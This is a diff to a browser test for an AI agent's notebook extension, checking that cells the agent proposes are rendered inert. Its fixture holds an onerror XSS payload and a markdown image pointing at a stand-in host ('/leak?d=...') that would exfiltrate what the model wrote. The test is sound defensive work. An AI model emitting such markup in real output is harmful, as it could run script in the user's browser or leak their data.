@@ -27,10 +27,16 @@ from lab_under_test import (
     wait_for,
 )
 from sidebar_build import need_built_sidebar
+
+from jupyter_deepagent.jupyter.tools.proposed_cells import inert_markdown
 from test_inspector_browser import ARTIFACTS
 
 CODE = "total = sum([1, 2, 3])\ntotal"
-NOTE = '## The total\nThe sum of the first three numbers. <img src=x onerror="window.__pwned = 1">'
+NOTE = (
+    '## The total\nThe sum of the first three numbers. <img src=x onerror="window.__pwned = 1">\n'
+    "![chart](http://127.0.0.1:9/leak?d=total)"  # would send the server what the model put in it
+)
+SHOWN_NOTE = inert_markdown(NOTE)  # as the cell holds it: the image a link, the HTML text
 SCRIPT = {
     "name": "scripted-cells",
     "profile": {"max_input_tokens": 64000},
@@ -120,7 +126,10 @@ def _assert_two_proposals_below_the_agent_cell(cells: list[dict[str, Any]]) -> N
     assert [c["id"] for c in cells[:3]] == ["load", "config", "agent"]
     assert cells[-1]["id"] == "after"
     proposed = cells[3:-1]
-    assert [(c["cell_type"], _source(c)) for c in proposed] == [("code", CODE), ("markdown", NOTE)]
+    assert [(c["cell_type"], _source(c)) for c in proposed] == [
+        ("code", CODE),
+        ("markdown", SHOWN_NOTE),
+    ]
     marks = [c["metadata"]["jupyter_deepagent"] for c in proposed]
     assert [(m["proposed_by"], m["index"]) for m in marks] == [("agent", 0), ("agent", 1)]
     code = proposed[0]
@@ -140,12 +149,15 @@ def test_an_agent_cell_with_cells_leaves_two_proposals_that_a_rerun_replaces(
         page = None
         try:
             page = browser.new_page(viewport={"width": 1300, "height": 2400})
+            fetched: list[str] = []
+            page.on("request", lambda request: fetched.append(request.url))
             open_notebook(page, url, "cells.ipynb")
             run_all_cells(page, 120)
             wait_for(lambda: len(_cells(page)) == 6, 20, "two cells proposed below the agent cell")
             cells = _cells(page)
             _assert_two_proposals_below_the_agent_cell(cells)
             assert page.evaluate("() => window.__pwned") is None
+            assert not [u for u in fetched if "/leak" in u], "a proposed cell loaded an image"
             note = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-deepagent-proposals")
             expect(note).to_have_text("The agent proposed 2 cells, inserted below (not run).")
             # the kernel ran the cell after them, but none of them
@@ -198,7 +210,11 @@ def test_an_agent_cell_with_cells_leaves_two_proposals_that_a_rerun_replaces(
             _run_cell(page, 2)
             cells = _cells(page)
             proposed = _proposed(cells)
-            assert [_source(c) for c in proposed] == [CODE, NOTE, "total = sum([1, 2, 3, 4])"]
+            assert [_source(c) for c in proposed] == [
+                CODE,
+                SHOWN_NOTE,
+                "total = sum([1, 2, 3, 4])",
+            ]
             assert len(cells) == 7
             expect(note).to_contain_text("1 earlier proposal you edited was kept")
             assert page.evaluate("() => window.__pwned") is None
